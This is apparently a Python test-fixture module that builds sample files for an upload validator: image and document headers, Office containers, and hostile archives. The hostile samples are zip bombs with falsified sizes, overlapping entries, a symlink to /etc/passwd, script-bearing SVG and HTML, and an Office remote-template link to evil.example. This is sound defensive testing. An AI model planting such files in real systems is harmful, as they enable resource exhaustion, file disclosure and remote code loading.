"""Files as people, programs and attackers make them. Small, built here, so that each says what is in it."""

import io
import random
import struct
import zipfile
import zlib

PDF = b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
GIF = (
    b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
)
JPG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xd9"
WEBP = b"RIFF\x1a\x00\x00\x00WEBPVP8L\x0d\x00\x00\x00/\x00\x00\x00\x10\x07\x10\x11\x11\x88\x88\xfe\x07\x00"
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + bytes(200)
ELF = b"\x7fELF\x02\x01\x01" + bytes(200)
STEP = b"ISO-10303-21;\nHEADER;\nENDSEC;\nEND-ISO-10303-21;\n"
DXF = b"  0\nSECTION\n  2\nHEADER\n  0\nENDSEC\n  0\nEOF\n"
DWG = b"AC1032" + bytes(100)
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!DOCTYPE html><script>alert(1)</script>"
CHINESE = "序号,名称\r\n1,高强度弹性体 𠮷䶮\r\n"


def png(width: int = 1, height: int = 1) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\0\0")) + chunk(b"IEND", b"")


def zipped(parts: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def office(folder: str = "word", more: dict[str, bytes] | None = None, *, types: bytes = b"<Types/>") -> bytes:
    main = {"word": "document", "xl": "workbook", "ppt": "presentation"}[folder]
    parts = {"[Content_Types].xml": types, "_rels/.rels": b"<Relationships/>", f"{folder}/{main}.xml": b"<w/>"}
    return zipped(parts | (more or {}))


def ole(*streams: str) -> bytes:
    return (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + bytes(504)
        + b"".join(name.encode("utf-16-le").ljust(64, b"\0") for name in streams)
        + bytes(512)
    )


def patched(data: bytes, signature: bytes, offset: int, value: bytes, which: int = 0) -> bytes:
    """The bytes with one field of the which-th record of a kind overwritten: headers that lie."""
    at = -1
    for _turn in range(which + 1):
        at = data.index(signature, at + 1)
    return data[: at + offset] + value + data[at + offset + len(value) :]


def overlapping(count: int = 30) -> bytes:
    """Many entries in the directory, one body: what zipfile once unpacked again and again."""
    single = zipped({"a.txt": b"0" * 1_000_000})
    body = single[: single.index(b"PK\x01\x02")]
    entry = single[len(body) : single.index(b"PK\x05\x06")]
    end = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, count, count, len(entry) * count, len(body), 0)
    return body + entry * count + end


def flat_bomb(megabytes: int = 320) -> bytes:
    """One entry that unpacks to far more than it weighs."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive, archive.open("zeros.txt", "w") as entry:
        for _turn in range(megabytes):
            entry.write(bytes(1024 * 1024))
    return out.getvalue()


def lying_bomb() -> bytes:
    """Inflates to 8 MB and declares 10 bytes, in both headers."""
    data = zipped({"zeros.txt": bytes(8 * 1024 * 1024)})
    small = struct.pack("<I", 10)
    return patched(patched(data, b"PK\x01\x02", 24, small), b"PK\x03\x04", 22, small)


def heavy() -> bytes:
    """Declares 310 MB behind 4 MB: no wild ratio, only too much."""
    data = zipped({"noise.bin": random.Random(1).randbytes(4 * 1024 * 1024)})
    return patched(data, b"PK\x01\x02", 24, struct.pack("<I", 310 * 1024 * 1024))


def reaching_into_the_directory() -> bytes:
    data = zipped({"a": b"x" * 99})
    packed = struct.unpack_from("<I", data, data.index(b"PK\x01\x02") + 20)[0]
    return patched(data, b"PK\x01\x02", 20, struct.pack("<I", packed + 5))


def with_bytes_after_the_last_entry() -> bytes:
    data = zipped({"a": b"x"})
    at = data.index(b"PK\x05\x06")
    length = struct.unpack_from("<I", data, at + 12)[0]
    return patched(data[:at] + b"junk" + data[at:], b"PK\x05\x06", 12, struct.pack("<I", length + 4))


def wide_sizes() -> bytes:
    """As some programs pack even small files: the sizes stand in the 64-bit extra field."""
    crc, name, extra = zlib.crc32(b"text"), b"a.txt", struct.pack("<HHQQQ", 1, 24, 4, 4, 0)
    local = struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 45, 0, 0, 0, 0, crc, 4, 4, len(name), 0) + name + b"text"
    unknown = 0xFFFFFFFF
    entry = struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 45, 45, 0, 0, 0, 0, crc, unknown, unknown, len(name),
                        len(extra), 0, 0, 0, 0, unknown) + name + extra  # fmt: skip
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 1, 1, len(entry), len(local), 0)
    return local + entry + end


def renamed(data: bytes, old: bytes, new: bytes) -> bytes:
    assert len(old) == len(new)
    return data.replace(old, new)


def with_link() -> bytes:
    link = zipfile.ZipInfo("passwd")
    link.external_attr = 0o120777 << 16
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(link, "/etc/passwd")
    return out.getvalue()


def gbk_names() -> bytes:
    """As Windows packs 报告.txt: GBK bytes, no UTF-8 flag."""
    return renamed(zipped({"ABCD.txt": b"x"}), b"ABCD", "报告".encode("gbk"))


TEMPLATE_LINK = (
    b'<Relationships><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    b'attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)
HYPERLINK = TEMPLATE_LINK.replace(b"attachedTemplate", b"hyperlink").replace(b"t.dotm", b"page")
